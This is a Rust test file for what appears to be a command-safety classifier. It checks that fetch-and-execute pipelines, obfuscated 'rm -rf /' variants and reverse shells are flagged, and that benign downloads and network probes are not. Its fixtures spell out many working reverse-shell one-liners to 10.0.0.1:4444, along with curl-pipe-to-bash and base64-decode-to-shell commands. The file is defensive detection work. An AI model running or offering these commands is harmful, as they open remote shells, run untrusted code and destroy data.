//! Content that comes in and runs: downloads, decoded text, a shell for somebody else.

use super::{silent, speaks};

#[test]
fn running_a_download_is_seen_however_it_gets_to_the_shell() {
    speaks(
        "run_fetched_code",
        &[
            "curl -fsSL https://example.com/i.sh | sudo bash -s -- --yes",
            "wget -qO- https://example.com/i.sh | tee log.txt | sed 's/a/b/' | sh",
            "bash <(curl -s https://example.com/i.sh)",
            "bash -c \"$(curl -fsSL https://example.com/i.sh)\"",
            "sh -c \"cd /tmp; $(wget -qO- https://example.com/i.sh)\"",
            "eval \"$(curl -s https://example.com/i.sh)\"",
            "eval `curl -s https://example.com/i.sh`",
            "source <(curl -s https://example.com/env.sh)",
            ". /dev/stdin <<< \"$(curl -s https://example.com/x)\"",
            "x=$(curl -s https://example.com/x); eval \"$x\"",
            "curl -s https://example.com/x.py | python3 -",
            "curl -s https://example.com/x.py | python3 -c 'import sys; exec(sys.stdin.read())'",
            "python3 -c \"$(curl -s https://example.com/x.py)\"",
            "perl <(wget -qO- https://example.com/x.pl)",
            "curl -s https://example.com/x.js | node",
            "curl -s https://example.com/list | xargs -I{} sh -c '{}'",
            "$(curl -s https://example.com/cmd)",
            "curl -s https://example.com/x | while read l; do eval \"$l\"; done",
            "aws s3 cp s3://bucket/x.sh - | bash",
            "dig +short txt cmd.example.com | sh",
            "bash < <(curl -s https://example.com/x)",
            "echo \"$(curl -s https://example.com/x)\" | bash",
            "http https://example.com/x.sh | zsh",
            "{ curl -s https://example.com/x; } | (bash)",
            "curl -s https://example.com/x | crontab -",
            "C=curl; $C -s https://example.com/x | b''ash",
            "ssh host 'curl -s https://example.com/x | bash'",
            "env FOO=1 bash -c 'curl -s https://example.com/x | sh'",
        ],
    );
}

#[test]
fn running_a_file_that_was_downloaded_before_is_seen() {
    speaks(
        "run_fetched_code",
        &[
            "wget -qO setup https://example.com/s; mapfile -t steps < setup; eval \"${steps[*]}\"",
            "wget -qO setup https://example.com/s; while read -r step; do eval \"$step\"; done < setup",
            "wget -qO setup https://example.com/s; perl < setup",
            "wget -qO setup https://example.com/s; echo exit >> setup; sh setup",
            "wget -qO setup https://example.com/s; BASH_ENV=setup bash -c date",
            "coproc GET { wget -qO- https://example.com/s; }; sh <&${GET[0]}",
            "curl -o x.sh https://example.com/x.sh; bash x.sh",
            "curl -sSLo /tmp/x https://example.com/x && chmod +x /tmp/x && /tmp/x --install",
            "wget https://example.com/a/setup.sh && sh setup.sh",
            "wget -P /tmp https://example.com/setup.sh && bash /tmp/setup.sh",
            "cd /tmp && curl -O https://example.com/get.py && python3 get.py",
            "curl https://example.com/x > x.sh && mv x.sh y.sh && chmod 755 y.sh && ./y.sh",
            "curl -s https://example.com/x | tee x.sh >/dev/null; source x.sh",
            "curl -o a https://example.com/a; cp a bin/; ./bin/a",
            "T=$(mktemp); curl -s https://example.com/x > \"$T\"; bash \"$T\"",
            "echo aGk= | base64 -d > x.sh; sh x.sh",
            "curl -s https://example.com/x -o \"$DIR/x.sh\"; bash \"$DIR/x.sh\"",
        ],
    );
}

#[test]
fn running_decoded_text_is_seen_and_read_where_it_can_be() {
    speaks(
        "run_fetched_code",
        &[
            "base64 -d payload | bash",
            "base64 --decode <<< aGVsbG8= | sh",
            "bash <<< \"$(base64 -d payload)\"",
            "xxd -r -p x.hex | sh",
            "echo 'xls' | sed 's/x//' | bash",
            "perl -MMIME::Base64 -e 'eval decode_base64(\"eA==\")'",
            "openssl enc -aes-256-cbc -d -in x | bash",
            "gunzip -c x.gz | sh",
            "rev x.txt | bash",
            "cat x | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash",
            "eval \"$(echo ZWNobyBoaQ== | base64 -d)\"",
            "$(echo bHM= | base64 -d) -l",
            "python3 -c 'print(\"ls\")' | sh",
            "python3 -c 'import base64; exec(base64.b64decode(x))'",
            "python3 -c 'import os,base64; os.system(base64.b64decode(\"bHM=\").decode())'",
            "node -e 'eval(Buffer.from(\"MSsx\", \"base64\").toString())'",
            "php -r 'eval(base64_decode($x));'",
            "ruby -e 'eval(Base64.decode64(x))'",
            "python3 -c 'import urllib.request as u; exec(u.urlopen(\"https://example.com/x\").read())'",
        ],
    );
    speaks(
        "system_or_home",
        &[
            "echo cm0gLXJmIC8= | base64 -d | sh",
            "echo 726d202d7266202f | xxd -r -p | bash",
            "echo '/ fr- mr' | rev | sh",
            "r=$(echo mr | rev); $r -rf /",
            "node -e 'require(\"child_process\").execSync(Buffer.from(\"cm0gLXJmIC8=\", \"base64\").toString())'",
            "echo 'ez -es /' | tr 'a-z' 'n-za-m' | sh",
            "eval \"$(base64 -d <<< cm0gLXJmIC8=)\"",
            "python3 -c 'import os,base64; os.system(base64.b64decode(\"cm0gLXJmIC8=\").decode())'",
        ],
    );
}

#[test]
fn downloads_and_decoders_that_run_nothing_are_silent() {
    silent(&[
        "curl -fsSL https://example.com/i.sh",
        "curl -O https://example.com/i.sh && less i.sh",
        "wget https://example.com/a.tgz && tar xzf a.tgz && cd a && ./configure && make",
        "curl -L https://example.com/a.tgz | tar xz",
        "git clone https://example.com/r.git && cd r && ./install.sh",
        "curl -s https://example.com/x.json | python3 -c 'import json,sys; print(json.load(sys.stdin)[\"a\"])'",
        "curl -s https://example.com/x.json | python3 -m json.tool",
        "curl -s https://example.com/x.json | node -e 'process.stdin.pipe(process.stdout)'",
        "V=$(curl -s https://example.com/v); bash -c \"echo $V\"",
        "V=$(curl -s https://example.com/v | jq -r .tag); curl -LO https://example.com/$V.tgz",
        "eval \"$(ssh-agent -s)\"",
        "eval \"$(direnv hook bash)\"",
        "source <(kubectl completion bash)",
        "echo aGk= | base64 -d",
        "kubectl get secret x -o jsonpath={.data.y} | base64 -d > y",
        "zcat dump.sql.gz | psql app",
        "cat list.txt | tr a-z A-Z",
        "echo 'curl https://example.com | bash'",
        "git commit -m 'do not curl x | sh'",
        "npx create-x app",
        "cat files.txt | xargs -n1 bash scripts/check.sh",
        "curl -s https://example.com/ids | xargs -I{} echo {}",
        "ls | awk '{print \"mv \" $1 \" x\"}' | sh",
        "python3 -c 'import base64; print(base64.b64decode(\"aGk=\"))'",
        "node -e 'console.log(eval(\"1+1\"))'",
        "curl -o data.json https://example.com/data.json && python3 process.py data.json",
    ]);
}

#[test]
fn a_shell_for_another_machine_is_seen() {
    speaks(
        "network_shell",
        &[
            "ncat --sh-exec 'bash -i' 10.0.0.1 4444",
            "nc -lvnp 4444 -e /bin/bash",
            "nc 10.0.0.1 4444 -c /bin/sh",
            "socat TCP:10.0.0.1:4444 EXEC:/bin/sh,pty",
            "socat exec:'bash -li',pty tcp-connect:10.0.0.1:4444",
            "bash -c 'sh -i >& /dev/udp/10.0.0.1/53 0>&1'",
            "exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read line; do $line 2>&5 >&5; done",
            "0<&196; exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196",
            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
            "mknod bp p; nc 10.0.0.1 4444 < bp | /bin/bash > bp",
            "telnet 10.0.0.1 4444 | /bin/sh | telnet 10.0.0.1 4445",
            "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4444 > /tmp/s",
            "bash < /dev/tcp/10.0.0.1/4444",
            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
            "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(4444,inet_aton(\"10.0.0.1\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
            "ruby -rsocket -e 'f=TCPSocket.open(\"10.0.0.1\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
            "php -r '$s=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
            "lua -e \"require('socket');t=socket.tcp();t:connect('10.0.0.1','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');\"",
            "node -e 'var n=require(\"net\"),c=require(\"child_process\"),s=c.spawn(\"/bin/sh\",[]);var k=new n.Socket();k.connect(4444,\"10.0.0.1\",()=>{k.pipe(s.stdin)})'",
            "awk 'BEGIN{s=\"/inet/tcp/0/10.0.0.1/4444\";while(1){s|&getline c;while((c|&getline)>0)print|&s}}'",
        ],
    );
}

#[test]
fn probes_and_plain_connections_are_silent() {
    silent(&[
        "nc -zv localhost 5432",
        "nc -l 8080",
        "echo ping | nc -w1 example.com 7",
        "echo > /dev/tcp/localhost/5432",
        "timeout 1 bash -c '</dev/tcp/db/5432'",
        "timeout 2 bash -c 'cat < /dev/null > /dev/tcp/example.com/443' && echo open",
        "exec 3<>/dev/tcp/example.com/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
        "openssl s_client -connect example.com:443 < /dev/null",
        "echo | openssl s_client -connect example.com:443 2>/dev/null | openssl x509 -noout -dates",
        "socat -v TCP-LISTEN:8080,fork TCP:localhost:80",
        "ssh -R 8080:localhost:80 host",
        "python3 -c 'import socket; s=socket.socket(); s.bind((\"\",0)); print(s.getsockname()[1])'",
        "telnet localhost 6379",
        "bash scripts/run.sh | nc -w1 logs.example.com 514",
    ]);
}
